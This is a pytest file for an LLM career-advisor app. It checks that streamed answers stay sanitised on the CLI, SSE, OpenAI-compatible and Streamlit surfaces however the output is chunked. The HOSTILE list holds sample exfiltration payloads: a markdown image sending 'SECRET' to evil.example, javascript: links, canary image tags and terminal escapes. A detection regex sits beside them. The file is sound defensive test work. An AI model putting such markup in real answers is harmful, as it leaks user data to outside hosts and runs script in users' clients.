"""Streamed answers are as safe as whole ones, on every surface, however the model splits them.

A real LLM splits `![x](https://evil/?q=SECRET)` or `<a href="javascript:…">` over many
pieces; here the shipped fake model (backend `fake`, chosen through settings) streams a
hostile answer three characters at a time. The text collected from `CareerAdvisor.stream`,
the CLI, the SSE endpoint and the OpenAI-compatible stream must be safe at every moment
and end exactly as the final Answer text.
"""

from __future__ import annotations

import io
import json
import re
from pathlib import Path
from typing import Any

import pytest

from advisor import CareerAdvisor, Source, Store, make_answerer
from advisor.api.common import SOURCES_HEADING
from advisor.cli import main
from advisor.numbers import FLAG
from advisor.safety import safe_markdown
from advisor.stream_safety import SafeStream, render
from tests.exfil_forms import active
from tests.test_api import QUESTION, chat, events, serving

UNSAFE_TEXT = re.compile(
    r"!\[|<[a-zA-Z/!?]|\b(?:javascript|vbscript|data|file):|\]\((?!https?://)"
    r"|\]\(https?://evil|\x1b|\x07|\[(?:0|[5-9]|\d{2,})\]",
    re.I,
)
"""Images, raw HTML tags or comments, script links, a link target that is not http(s) or
at the evil host, terminal escapes and citations of no source (of 4)."""


class _Unsafe:
    """`UNSAFE.search(text)`: a pattern hit, or what a CommonMark renderer would fetch or run."""

    def search(self, text: str) -> object:
        return UNSAFE_TEXT.search(text) or active(text) or None


UNSAFE = _Unsafe()

HOSTILE = [
    "PyTorch first [1]. ![x](https://evil.example/?q=SECRET) then "
    '<img src="https://canary.invalid/p.png"> and <a href="javascript:alert(1)">here</a> [2].',
    "Read [the docs](javascript:alert('x')) or [PyTorch](https://pytorch.org/) [2]; "
    "not [9] or [0].",
    "Autolinks <javascript:alert(1)> and <https://pytorch.org/> and "
    "<!-- https://canary.invalid/c.png --> done [3].",
    "A chart ![chart][pixel] here [1].\n\n[pixel]: https://canary.invalid/ref.png\n\nNext [2].",
    "Nested [![x](https://evil.example/i.png) more text](javascript:y) end [1].",
    "Window \x1b]0;pwned\x07 clear \x1b[2J red \x1b[31mtext\x1b[0m bell\x07 [1].",
    "Split java [9]script:alert(1) and vbscript:msgbox and data:text/html,x [1].",
    "Entry roles start at $100,000 [1]. Seniors earn $250,000 after 30 months [2].",
    "<b>[x]: javascript:alert(1)\n[y](javascript:z) ok <i\nunclosed tag [1]",
]
"""Hostile answers: each line hides an image, HTML, a script link, an escape or a bad citation."""

SOURCES = [
    Source(
        id=f"s{n}",
        text=f"Entry-level ML roles start at $100,000. Source number {n}.",
        title=f"Card {n}",
        section="",
        source=f"card{n}.md",
    )
    for n in range(1, 5)
]


def pieces(text: str, size: int, offset: int = 0) -> list[str]:
    """`text` cut into `size`-character pieces, the first one `offset` long."""
    head = [text[:offset]] if offset else []
    return head + [text[i : i + size] for i in range(offset, len(text), size)]


def assert_safe_stream(deltas: list[str], final: str) -> None:
    """Every moment of the stream is safe and a prefix of `final`; the whole equals it."""
    shown = ""
    for delta in deltas:
        shown += delta
        assert not UNSAFE.search(shown), (shown, UNSAFE.search(shown))
        assert final.startswith(shown), (shown, final)
    assert shown == final


def stream_through(text: str, parts: list[str]) -> list[str]:
    guard = SafeStream(SOURCES)
    out = [guard.push(p) for p in parts]
    out.append(guard.finish())
    assert guard.result is not None and guard.result.text == render(text, SOURCES).text
    return out


# --- the incremental sanitiser --------------------------------------------------------------


@pytest.mark.parametrize("text", [t for t in HOSTILE if "$" not in t and "[pixel]:" not in t])
def test_the_hostile_answers_leak_when_sanitised_piece_by_piece(text: str) -> None:
    """The fault: per-piece sanitising (the old stream) lets split markup through.

    (A reference definition split into pieces only loses its brackets to escaping.)"""
    leaked = [
        size
        for size in range(1, 8)
        if UNSAFE.search("".join(safe_markdown(p) for p in pieces(text, size)))
    ]
    assert leaked  # the inputs really are hostile when split


@pytest.mark.parametrize("text", HOSTILE)
def test_every_split_point_gives_a_safe_prefix_of_the_final_text(text: str) -> None:
    final = render(text, SOURCES).text
    assert not UNSAFE.search(final)
    assert safe_markdown(final) == final  # the API's last sanitising pass changes nothing
    for cut in range(len(text) + 1):
        assert_safe_stream(stream_through(text, [text[:cut], text[cut:]]), final)


@pytest.mark.parametrize("text", HOSTILE)
def test_any_piece_size_and_offset_gives_a_safe_prefix_of_the_final_text(text: str) -> None:
    final = render(text, SOURCES).text
    for size in range(1, 9):
        for offset in range(size):
            assert_safe_stream(stream_through(text, pieces(text, size, offset)), final)


@pytest.mark.parametrize("seed", range(30))
def test_random_splits_of_all_the_hostile_answers_together(seed: int) -> None:
    import random

    text = " ".join(HOSTILE)
    rng = random.Random(seed)
    cuts = sorted(rng.sample(range(1, len(text)), 60))
    parts = [text[a:b] for a, b in zip([0, *cuts], [*cuts, len(text)], strict=True)]
    assert_safe_stream(stream_through(text, parts), render(text, SOURCES).text)


def test_invalid_citations_never_stream_and_numbers_are_flagged_as_they_settle() -> None:
    text = (
        "Entry roles start at $100,000 [1]. Seniors earn $250,000 [9] after 30 months [2].\n\n"
        "Then more"
    )
    guard = SafeStream(SOURCES)
    shown = "".join(guard.push(p) for p in pieces(text, 3))
    assert "[9]" not in shown
    assert f"$250,000{FLAG} after 30{FLAG} months [2]." in shown  # flagged as its paragraph ends
    assert "$100,000 [1]." in shown and "$100,000" + FLAG not in shown
    rest = guard.finish()
    assert guard.result is not None and shown + rest == guard.result.text
    assert guard.result.unsupported == ("$250,000", "30")
    assert guard.result.cited == {1, 2}


def test_an_unfinished_construct_is_held_until_it_is_complete() -> None:
    guard = SafeStream(SOURCES)
    assert guard.push("See ![tracking pi") == "See"
    assert guard.push("xel](https://evil.example/p.png) and ") == " tracking pixel and"
    assert guard.push("javas") == ""
    assert guard.push("cript:alert(1) now") == " javascript :alert("  # "1" waits for its citation
    assert guard.finish() == "1 (not in the sources)) now"


# --- every surface, with the fake model streaming three characters at a time -----------------


def hostile_advisor(store: Store, text: str) -> CareerAdvisor:
    settings = store.settings.with_(
        backend="fake", fake_responses=(text,) * 8, fake_chunk_chars=3, api_rate_limit=0
    )
    return CareerAdvisor(settings, store, make_answerer(settings))


HOSTILE_ANSWER = " ".join(HOSTILE[:3] + HOSTILE[4:8])


def test_core_stream_yields_only_safe_prefixes_of_the_answer(shared_store: Store) -> None:
    items = list(hostile_advisor(shared_store, HOSTILE_ANSWER).stream(QUESTION))
    answer = items[-1]
    deltas = [i for i in items[:-1] if isinstance(i, str)]
    # it really streamed, up to "alert(1)": a number no cited source holds keeps the rest of
    # its paragraph (here the whole answer) back until the paragraph ends (numbers.py)
    assert len(deltas) > 2
    assert_safe_stream(deltas, answer.text)  # type: ignore[union-attr]
    assert "PyTorch first [1]." in answer.text and "the docs" in answer.text  # type: ignore[union-attr]
    assert f"$250,000{FLAG}" in answer.text  # type: ignore[union-attr]


class Writes(io.StringIO):
    """stdout that remembers each write, so the CLI's output can be checked at every moment."""

    def __init__(self) -> None:
        super().__init__()
        self.writes: list[str] = []

    def write(self, text: str) -> int:
        self.writes.append(text)
        return super().write(text)


def test_cli_prints_only_safe_text_while_streaming(
    built_env: Path, shared_store: Store, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("ADVISOR_FAKE_RESPONSES", json.dumps([HOSTILE_ANSWER]))
    monkeypatch.setenv("ADVISOR_FAKE_CHUNK_CHARS", "3")
    out = Writes()
    monkeypatch.setattr("sys.stdout", out)
    assert main(["ask", QUESTION]) == 0
    final = hostile_advisor(shared_store, HOSTILE_ANSWER).ask(QUESTION).text
    printed = out.getvalue()
    assert printed.startswith(final + "\n\nSources:\n")
    end = printed.index("\n\nSources:")
    streamed = []
    for write in out.writes:  # the answer's writes, up to its closing newline
        streamed.append(write)
        if sum(map(len, streamed)) > end:
            break
    assert len(streamed) > 2  # streamed, up to the paragraph's unsupported "alert(1)"
    assert_safe_stream(streamed, final + "\n")
    assert "\x1b" not in printed and "\x07" not in printed  # the source list prints <url>s


def test_sse_and_openai_streams_carry_only_safe_prefixes(shared_store: Store) -> None:
    advisor = hostile_advisor(shared_store, HOSTILE_ANSWER)
    with serving(advisor) as client:
        whole = client.post("/v1/ask", json={"question": QUESTION}).json()["answer"]
        sse = events(client.post("/v1/ask/stream", json={"question": QUESTION}).text)
        chunks = events(client.post("/v1/chat/completions", json=chat(stream=True)).text)
    deltas = [data["text"] for event, data in sse if event == "delta"]
    done = next(data for event, data in sse if event == "done")
    assert len(deltas) > 2  # streamed, up to the paragraph's unsupported "alert(1)"
    assert_safe_stream(deltas, done["answer"])
    assert done["answer"] == whole
    contents = [
        c["choices"][0]["delta"].get("content", "")
        for _, c in chunks
        if isinstance(c, dict) and c.get("choices")
    ]
    footer = next(i for i, c in enumerate(contents) if c.startswith(SOURCES_HEADING))
    assert_safe_stream(contents[:footer], whole)
    assert not UNSAFE.search("".join(contents))


def test_the_app_shows_only_the_safe_final_text(
    built_env: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    from streamlit.testing.v1 import AppTest

    from ui import components

    monkeypatch.setenv("ADVISOR_FAKE_RESPONSES", json.dumps([HOSTILE_ANSWER] * 2))
    monkeypatch.setenv("ADVISOR_FAKE_CHUNK_CHARS", "3")
    seen: list[str] = []
    deltas = components.answer_deltas

    def recording(stream: Any, sink: list[Any]) -> Any:
        for delta in deltas(stream, sink):
            seen.append(delta)
            yield delta

    monkeypatch.setattr(components, "answer_deltas", recording)
    at = AppTest.from_file(str(Path(__file__).parents[1] / "ui" / "app.py"), default_timeout=120)
    at.run()
    at.chat_input[0].set_value(QUESTION).run()
    assert not at.exception
    answer = at.session_state["turns"][-1].answer
    assert len(seen) > 2  # streamed, up to the paragraph's unsupported "alert(1)"
    assert_safe_stream(seen, answer.text)
    shown = "\n".join(str(m.value) for m in at.main.markdown)
    from ui.citations import link_citations  # the app links each [n] to its source

    turn = at.session_state["turns"][-1]
    linked = link_citations(answer.text, turn.id, len(answer.sources))
    ours = re.sub(r"\[\\\[\d+\\\]\]\(#src-[0-9a-f]+-\d+\)", "", shown)  # in-page [n] links
    assert linked in shown and "#src-" not in ours and not UNSAFE.search(ours)
